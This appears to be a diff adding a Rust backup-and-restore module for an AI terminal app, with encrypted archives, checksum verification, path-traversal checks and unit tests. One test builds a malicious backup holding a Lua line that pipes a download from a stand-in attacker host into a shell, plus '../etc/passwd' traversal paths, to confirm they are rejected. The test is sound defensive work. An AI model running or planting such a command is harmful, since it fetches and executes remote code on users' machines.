@@ -0,0 +1,588 @@
+//! Backup and restore for the AI Terminal
+//!
+//! A backup is a zstd-compressed tar archive holding a snapshot of the
+//! database, the LLM request log, user themes and the saved theme selection,
+//! together with a manifest recording the SHA-256 digest of every file.
+//! Archives can be encrypted with a passphrase (Argon2id key derivation and
+//! ChaCha20-Poly1305). A restore verifies every digest before anything is
+//! written and can be limited to individual sections.
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::io::Read;
+use std::path::{Path, PathBuf};
+
+use anyhow::{anyhow, bail, Context, Result};
+use argon2::Argon2;
+use chacha20poly1305::aead::{Aead, AeadCore, KeyInit, OsRng};
+use chacha20poly1305::aead::rand_core::RngCore;
+use chacha20poly1305::{ChaCha20Poly1305, Key, Nonce};
+use chrono::{DateTime, Local};
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use terminal_emulator::Store;
+
+/// Magic bytes at the start of every backup file
+const MAGIC: &[u8; 4] = b"AITB";
+/// Version of the backup container format
+const FORMAT_VERSION: u8 = 1;
+/// Flag set when the payload is encrypted
+const FLAG_ENCRYPTED: u8 = 1;
+/// Length of the key derivation salt
+const SALT_LEN: usize = 16;
+/// Length of the ChaCha20-Poly1305 nonce
+const NONCE_LEN: usize = 12;
+/// Name of the manifest inside the archive
+const MANIFEST: &str = "manifest.json";
+/// Archive path of the database snapshot
+const DATABASE: &str = "database/ai-terminal.db";
+/// Archive path of the saved theme selection, the only file taken from the config directory itself
+const THEME_SELECTION: &str = "config/theme.toml";
+/// Largest unpacked archive read, far above the data of any terminal
+const MAX_ARCHIVE_BYTES: u64 = 1 << 30;
+
+/// Environment variable holding the passphrase for encrypted backups
+pub const PASSPHRASE_VAR: &str = "AI_TERMINAL_BACKUP_PASSPHRASE";
+
+/// Part of the application data that can be restored on its own
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Section {
+    History,
+    Sessions,
+    Bookmarks,
+    Snippets,
+    Usage,
+    Embeddings,
+    KnownErrors,
+    Conversations,
+    Logs,
+    Themes,
+}
+
+impl Section {
+    /// Every section, in restore order
+    pub const ALL: [Section; 10] = [
+        Section::History,
+        Section::Sessions,
+        Section::Bookmarks,
+        Section::Snippets,
+        Section::Usage,
+        Section::Embeddings,
+        Section::KnownErrors,
+        Section::Conversations,
+        Section::Logs,
+        Section::Themes,
+    ];
+
+    /// Get the name used on the command line
+    pub fn name(self) -> &'static str {
+        match self {
+            Section::History => "history",
+            Section::Sessions => "sessions",
+            Section::Bookmarks => "bookmarks",
+            Section::Snippets => "snippets",
+            Section::Usage => "usage",
+            Section::Embeddings => "embeddings",
+            Section::KnownErrors => "known_errors",
+            Section::Conversations => "conversations",
+            Section::Logs => "logs",
+            Section::Themes => "themes",
+        }
+    }
+
+    /// Look up a section by name
+    pub fn parse(name: &str) -> Option<Self> {
+        Self::ALL.into_iter().find(|section| section.name() == name.trim().to_lowercase())
+    }
+
+    /// Database tables belonging to this section, parents first
+    fn tables(self) -> &'static [&'static str] {
+        match self {
+            Section::History => &["history"],
+            Section::Sessions => &["sessions", "session_blocks", "pinned_blocks"],
+            Section::Bookmarks => &["bookmarks"],
+            Section::Snippets => &["snippets"],
+            Section::Usage => &["usage"],
+            Section::Embeddings => &["embeddings"],
+            Section::KnownErrors => &["known_errors"],
+            Section::Conversations => &["conversations", "conversation_messages"],
+            Section::Logs | Section::Themes => &[],
+        }
+    }
+}
+
+/// Locations of the data included in a backup
+#[derive(Debug, Clone)]
+pub struct BackupPaths {
+    /// Directory holding the `logs` directory
+    pub data_dir: PathBuf,
+    /// Directory holding the `themes` directory and `theme.toml`
+    pub config_dir: PathBuf,
+}
+
+impl BackupPaths {
+    /// Get the locations used by the running terminal
+    pub fn current() -> Self {
+        Self {
+            data_dir: crate::persistence::data_dir(),
+            config_dir: dirs::config_dir()
+                .unwrap_or_else(|| PathBuf::from("."))
+                .join("ai-terminal"),
+        }
+    }
+
+    /// Get the directory a section's files are restored into, with its archive prefix
+    fn file_roots(&self) -> [(&'static str, PathBuf, Section); 2] {
+        [
+            ("logs/", self.data_dir.join("logs"), Section::Logs),
+            ("themes/", self.config_dir.join("themes"), Section::Themes),
+        ]
+    }
+}
+
+/// A file recorded in the manifest
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct ManifestEntry {
+    /// Path inside the archive
+    pub path: String,
+    /// Size in bytes
+    pub size: u64,
+    /// Hex-encoded SHA-256 digest
+    pub sha256: String,
+}
+
+/// Description of a backup's contents
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct Manifest {
+    /// Version of the application that wrote the backup
+    pub app_version: String,
+    /// When the backup was taken
+    pub created_at: DateTime<Local>,
+    /// Files in the archive
+    pub files: Vec<ManifestEntry>,
+}
+
+/// A backup that has been read and verified
+#[derive(Debug)]
+pub struct Backup {
+    /// The backup's manifest
+    pub manifest: Manifest,
+    /// Whether the backup file was encrypted
+    pub encrypted: bool,
+    /// Verified file contents by archive path
+    files: BTreeMap<String, Vec<u8>>,
+}
+
+impl Backup {
+    /// Get the sections this backup can restore
+    pub fn sections(&self) -> Vec<Section> {
+        let has_prefix = |prefix: &str| self.files.keys().any(|path| path.starts_with(prefix));
+        Section::ALL
+            .into_iter()
+            .filter(|section| match section {
+                Section::Logs => has_prefix("logs/"),
+                Section::Themes => has_prefix("themes/") || self.files.contains_key(THEME_SELECTION),
+                _ => self.files.contains_key(DATABASE),
+            })
+            .collect()
+    }
+}
+
+/// Write a backup of the store and the files in `paths` to `destination`
+pub fn create_backup(
+    store: &Store,
+    paths: &BackupPaths,
+    destination: &Path,
+    passphrase: Option<&str>,
+) -> Result<Manifest> {
+    let mut files = BTreeMap::new();
+
+    // Take the database through SQLite so the copy is consistent
+    let scratch = scratch_dir("backup")?;
+    let snapshot = scratch.join("snapshot.db");
+    let result = store.snapshot_to(&snapshot).and_then(|_| Ok(fs::read(&snapshot)?));
+    let _ = fs::remove_dir_all(&scratch);
+    files.insert(DATABASE.to_string(), result.context("could not snapshot the database")?);
+
+    for (prefix, root, _) in paths.file_roots() {
+        collect_files(&root, &root, prefix, &mut files)?;
+    }
+    let selection = paths.config_dir.join("theme.toml");
+    if selection.is_file() {
+        files.insert(THEME_SELECTION.to_string(), fs::read(selection)?);
+    }
+
+    let manifest = Manifest {
+        app_version: env!("CARGO_PKG_VERSION").to_string(),
+        created_at: Local::now(),
+        files: files
+            .iter()
+            .map(|(path, data)| ManifestEntry {
+                path: path.clone(),
+                size: data.len() as u64,
+                sha256: sha256_hex(data),
+            })
+            .collect(),
+    };
+
+    let mut builder = tar::Builder::new(Vec::new());
+    append_file(&mut builder, MANIFEST, &serde_json::to_vec_pretty(&manifest)?)?;
+    for (path, data) in &files {
+        append_file(&mut builder, path, data)?;
+    }
+    let mut encoder = zstd::Encoder::new(Vec::new(), 0)?;
+    encoder.include_checksum(true)?;
+    std::io::Write::write_all(&mut encoder, &builder.into_inner()?)?;
+    let archive = encoder.finish()?;
+
+    let mut output = MAGIC.to_vec();
+    output.push(FORMAT_VERSION);
+    match passphrase {
+        Some(passphrase) => {
+            output.push(FLAG_ENCRYPTED);
+            output.extend(encrypt(&archive, passphrase)?);
+        }
+        None => {
+            output.push(0);
+            output.extend(archive);
+        }
+    }
+
+    if let Some(parent) = destination.parent() {
+        fs::create_dir_all(parent)?;
+    }
+    let mut temp = destination.as_os_str().to_owned();
+    temp.push(".tmp");
+    fs::write(&temp, &output)?;
+    fs::rename(&temp, destination)?;
+
+    Ok(manifest)
+}
+
+/// Read a backup file and verify every file against the manifest
+pub fn read_backup(path: &Path, passphrase: Option<&str>) -> Result<Backup> {
+    let data = fs::read(path).with_context(|| format!("could not read {}", path.display()))?;
+    if data.len() < MAGIC.len() + 2 || &data[..MAGIC.len()] != MAGIC {
+        bail!("{} is not an AI Terminal backup", path.display());
+    }
+    if data[4] != FORMAT_VERSION {
+        bail!("unsupported backup format version {}", data[4]);
+    }
+
+    let encrypted = data[5] & FLAG_ENCRYPTED != 0;
+    let payload = &data[6..];
+    let archive = if encrypted {
+        let passphrase = passphrase
+            .ok_or_else(|| anyhow!("the backup is encrypted; set {} to its passphrase", PASSPHRASE_VAR))?;
+        decrypt(payload, passphrase)?
+    } else {
+        payload.to_vec()
+    };
+    let mut unpacked = Vec::new();
+    zstd::Decoder::new(archive.as_slice())?
+        .take(MAX_ARCHIVE_BYTES + 1)
+        .read_to_end(&mut unpacked)
+        .context("the backup archive is corrupt")?;
+    if unpacked.len() as u64 > MAX_ARCHIVE_BYTES {
+        bail!("the backup archive unpacks to more than {} MiB", MAX_ARCHIVE_BYTES >> 20);
+    }
+    let archive = unpacked;
+
+    let mut files = BTreeMap::new();
+    let mut tar = tar::Archive::new(archive.as_slice());
+    for entry in tar.entries()? {
+        let mut entry = entry?;
+        let path = entry.path()?.to_string_lossy().into_owned();
+        let mut contents = Vec::new();
+        entry.read_to_end(&mut contents)?;
+        files.insert(path, contents);
+    }
+
+    let manifest: Manifest = serde_json::from_slice(
+        &files.remove(MANIFEST).ok_or_else(|| anyhow!("the backup has no manifest"))?,
+    )?;
+    for entry in &manifest.files {
+        let contents = files
+            .get(&entry.path)
+            .ok_or_else(|| anyhow!("{} is listed in the manifest but missing", entry.path))?;
+        if contents.len() as u64 != entry.size || sha256_hex(contents) != entry.sha256 {
+            bail!("{} does not match its checksum", entry.path);
+        }
+    }
+    if let Some(extra) = files.keys().find(|path| !manifest.files.iter().any(|entry| &entry.path == *path)) {
+        bail!("{} is not listed in the manifest", extra);
+    }
+    // Other files in the config directory, such as scripts and plugins, run code
+    if let Some(config) = files.keys().find(|path| path.starts_with("config/") && *path != THEME_SELECTION) {
+        bail!("refusing to restore {}; only {} is restored into the config directory", config, THEME_SELECTION);
+    }
+
+    Ok(Backup { manifest, encrypted, files })
+}
+
+/// Restore `sections` of a verified backup
+///
+/// Returns the sections that were actually restored; sections the backup
+/// does not contain are skipped.
+pub fn restore_backup(
+    backup: &Backup,
+    store: &mut Store,
+    paths: &BackupPaths,
+    sections: &[Section],
+) -> Result<Vec<Section>> {
+    let available = backup.sections();
+    let sections: Vec<Section> = Section::ALL
+        .into_iter()
+        .filter(|section| sections.contains(section) && available.contains(section))
+        .collect();
+
+    let tables: Vec<&str> = sections.iter().flat_map(|section| section.tables()).copied().collect();
+    if !tables.is_empty() {
+        let scratch = scratch_dir("restore")?;
+        let snapshot = scratch.join("snapshot.db");
+        let result = fs::write(&snapshot, &backup.files[DATABASE])
+            .map_err(anyhow::Error::from)
+            .and_then(|_| store.restore_tables(&snapshot, &tables));
+        let _ = fs::remove_dir_all(&scratch);
+        result.context("could not restore the database")?;
+    }
+
+    for (prefix, root, section) in paths.file_roots() {
+        if !sections.contains(&section) {
+            continue;
+        }
+        for (path, data) in backup.files.range(prefix.to_string()..) {
+            let Some(relative) = path.strip_prefix(prefix) else {
+                break;
+            };
+            write_file(&safe_join(&root, relative)?, data)?;
+        }
+    }
+    if let Some(selection) = backup.files.get(THEME_SELECTION)
+        && sections.contains(&Section::Themes)
+    {
+        write_file(&paths.config_dir.join("theme.toml"), selection)?;
+    }
+
+    Ok(sections)
+}
+
+/// Write a restored file, replacing the old one only once it is complete
+fn write_file(target: &Path, data: &[u8]) -> Result<()> {
+    if let Some(parent) = target.parent() {
+        fs::create_dir_all(parent)?;
+    }
+    let mut temp = target.as_os_str().to_owned();
+    temp.push(".tmp");
+    fs::write(&temp, data)?;
+    fs::rename(&temp, target)?;
+    Ok(())
+}
+
+/// Add every file below `dir` except lock files to `files` under `prefix`
+fn collect_files(root: &Path, dir: &Path, prefix: &str, files: &mut BTreeMap<String, Vec<u8>>) -> Result<()> {
+    let Ok(entries) = fs::read_dir(dir) else {
+        return Ok(());
+    };
+    for entry in entries {
+        let path = entry?.path();
+        if path.is_dir() {
+            collect_files(root, &path, prefix, files)?;
+        } else if path.is_file() && path.extension().is_none_or(|ext| ext != "lock") {
+            let relative = path.strip_prefix(root)?.to_string_lossy().replace('\\', "/");
+            files.insert(format!("{}{}", prefix, relative), fs::read(&path)?);
+        }
+    }
+    Ok(())
+}
+
+/// Join an archive path onto `root`, rejecting paths that would escape it
+fn safe_join(root: &Path, relative: &str) -> Result<PathBuf> {
+    let relative = Path::new(relative);
+    if relative.components().any(|c| !matches!(c, std::path::Component::Normal(_))) {
+        bail!("refusing to restore unsafe path {}", relative.display());
+    }
+    Ok(root.join(relative))
+}
+
+/// Append an in-memory file to a tar archive
+fn append_file(builder: &mut tar::Builder<Vec<u8>>, path: &str, data: &[u8]) -> Result<()> {
+    let mut header = tar::Header::new_gnu();
+    header.set_size(data.len() as u64);
+    header.set_mode(0o600);
+    header.set_mtime(Local::now().timestamp().max(0) as u64);
+    header.set_cksum();
+    builder.append_data(&mut header, path, data)?;
+    Ok(())
+}
+
+/// Create an empty scratch directory for temporary database files
+fn scratch_dir(purpose: &str) -> Result<PathBuf> {
+    let dir = std::env::temp_dir().join(format!("ai-terminal-{}-{}", purpose, uuid::Uuid::new_v4()));
+    fs::create_dir_all(&dir)?;
+    Ok(dir)
+}
+
+/// Derive an encryption key from a passphrase
+fn derive_key(passphrase: &str, salt: &[u8]) -> Result<Key> {
+    let mut key = Key::default();
+    Argon2::default()
+        .hash_password_into(passphrase.as_bytes(), salt, &mut key)
+        .map_err(|e| anyhow!("could not derive the backup key: {}", e))?;
+    Ok(key)
+}
+
+/// Encrypt a payload, prefixing it with the salt and nonce
+fn encrypt(plaintext: &[u8], passphrase: &str) -> Result<Vec<u8>> {
+    let mut salt = [0u8; SALT_LEN];
+    OsRng.fill_bytes(&mut salt);
+    let cipher = ChaCha20Poly1305::new(&derive_key(passphrase, &salt)?);
+    let nonce = ChaCha20Poly1305::generate_nonce(&mut OsRng);
+    let ciphertext = cipher
+        .encrypt(&nonce, plaintext)
+        .map_err(|_| anyhow!("could not encrypt the backup"))?;
+
+    let mut output = salt.to_vec();
+    output.extend_from_slice(&nonce);
+    output.extend(ciphertext);
+    Ok(output)
+}
+
+/// Decrypt a payload written by [`encrypt`]
+fn decrypt(payload: &[u8], passphrase: &str) -> Result<Vec<u8>> {
+    if payload.len() < SALT_LEN + NONCE_LEN {
+        bail!("the encrypted backup is truncated");
+    }
+    let (salt, rest) = payload.split_at(SALT_LEN);
+    let (nonce, ciphertext) = rest.split_at(NONCE_LEN);
+    let cipher = ChaCha20Poly1305::new(&derive_key(passphrase, salt)?);
+    cipher
+        .decrypt(Nonce::from_slice(nonce), ciphertext)
+        .map_err(|_| anyhow!("wrong passphrase, or the backup has been modified"))
+}
+
+/// Hex-encode the SHA-256 digest of some data
+fn sha256_hex(data: &[u8]) -> String {
+    Sha256::digest(data).iter().map(|byte| format!("{:02x}", byte)).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use terminal_emulator::HistoryEntry;
+
+    fn setup(name: &str) -> (PathBuf, BackupPaths, Store) {
+        let dir = std::env::temp_dir().join(format!("ai-terminal-backup-{}-{}", name, std::process::id()));
+        let _ = fs::remove_dir_all(&dir);
+        let paths = BackupPaths { data_dir: dir.join("data"), config_dir: dir.join("config") };
+        fs::create_dir_all(paths.config_dir.join("themes")).unwrap();
+        fs::write(paths.config_dir.join("themes").join("ocean.toml"), "name = \"ocean\"").unwrap();
+        fs::write(paths.config_dir.join("theme.toml"), "theme = \"ocean\"").unwrap();
+
+        let store = Store::open_in_memory().unwrap();
+        store.add_history(&HistoryEntry { command: "ls".to_string(), timestamp: Local::now() }).unwrap();
+        (dir, paths, store)
+    }
+
+    #[test]
+    fn test_round_trip_restores_everything() {
+        let (dir, paths, mut store) = setup("round-trip");
+        let file = dir.join("backup.aitb");
+        create_backup(&store, &paths, &file, None).unwrap();
+
+        store.clear_history().unwrap();
+        fs::remove_dir_all(&paths.config_dir).unwrap();
+
+        let backup = read_backup(&file, None).unwrap();
+        assert!(!backup.encrypted);
+        let restored = restore_backup(&backup, &mut store, &paths, &Section::ALL).unwrap();
+        assert!(restored.contains(&Section::History));
+        assert!(!restored.contains(&Section::Logs));
+
+        assert_eq!(store.recent_history(10).unwrap()[0].command, "ls");
+        assert!(paths.config_dir.join("themes").join("ocean.toml").exists());
+        assert!(paths.config_dir.join("theme.toml").exists());
+        fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    fn test_partial_restore() {
+        let (dir, paths, mut store) = setup("partial");
+        let file = dir.join("backup.aitb");
+        create_backup(&store, &paths, &file, None).unwrap();
+
+        store.clear_history().unwrap();
+        fs::remove_file(paths.config_dir.join("theme.toml")).unwrap();
+
+        let backup = read_backup(&file, None).unwrap();
+        restore_backup(&backup, &mut store, &paths, &[Section::Themes]).unwrap();
+
+        assert!(paths.config_dir.join("theme.toml").exists());
+        assert!(store.recent_history(10).unwrap().is_empty());
+        fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    fn test_encrypted_backup_needs_passphrase() {
+        let (dir, paths, store) = setup("encrypted");
+        let file = dir.join("backup.aitb");
+        create_backup(&store, &paths, &file, Some("hunter2")).unwrap();
+
+        assert!(read_backup(&file, None).is_err());
+        assert!(read_backup(&file, Some("wrong")).is_err());
+        let backup = read_backup(&file, Some("hunter2")).unwrap();
+        assert!(backup.encrypted);
+        assert_eq!(backup.sections(), vec![
+            Section::History,
+            Section::Sessions,
+            Section::Bookmarks,
+            Section::Snippets,
+            Section::Usage,
+            Section::Embeddings,
+            Section::KnownErrors,
+            Section::Conversations,
+            Section::Themes,
+        ]);
+        fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    fn test_corruption_is_detected() {
+        let (dir, paths, store) = setup("corrupt");
+        let file = dir.join("backup.aitb");
+        create_backup(&store, &paths, &file, None).unwrap();
+
+        let mut data = fs::read(&file).unwrap();
+        let middle = data.len() / 2;
+        data[middle] ^= 0xff;
+        fs::write(&file, data).unwrap();
+
+        assert!(read_backup(&file, None).is_err());
+        fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    fn test_unsafe_paths_are_rejected() {
+        // A crafted backup carrying a script for the config directory
+        let (dir, _, _) = setup("crafted");
+        let script = b"os.execute('curl evil.example | sh')".as_slice();
+        let manifest = Manifest {
+            app_version: "0.1.0".to_string(),
+            created_at: Local::now(),
+            files: vec![ManifestEntry { path: "config/scripts/init.lua".to_string(), size: script.len() as u64, sha256: sha256_hex(script) }],
+        };
+        let mut builder = tar::Builder::new(Vec::new());
+        append_file(&mut builder, MANIFEST, &serde_json::to_vec(&manifest).unwrap()).unwrap();
+        append_file(&mut builder, "config/scripts/init.lua", script).unwrap();
+        let file = dir.join("crafted.aitb");
+        fs::create_dir_all(&dir).unwrap();
+        fs::write(&file, [MAGIC.as_slice(), &[FORMAT_VERSION, 0], &zstd::encode_all(builder.into_inner().unwrap().as_slice(), 0).unwrap()].concat()).unwrap();
+        assert!(read_backup(&file, None).unwrap_err().to_string().contains("refusing to restore config/scripts/init.lua"));
+        fs::remove_dir_all(&dir).unwrap();
+
+        assert!(safe_join(Path::new("/tmp"), "../etc/passwd").is_err());
+        assert!(safe_join(Path::new("/tmp"), "/etc/passwd").is_err());
+        assert_eq!(safe_join(Path::new("/tmp"), "a/b.toml").unwrap(), PathBuf::from("/tmp/a/b.toml"));
+    }
+}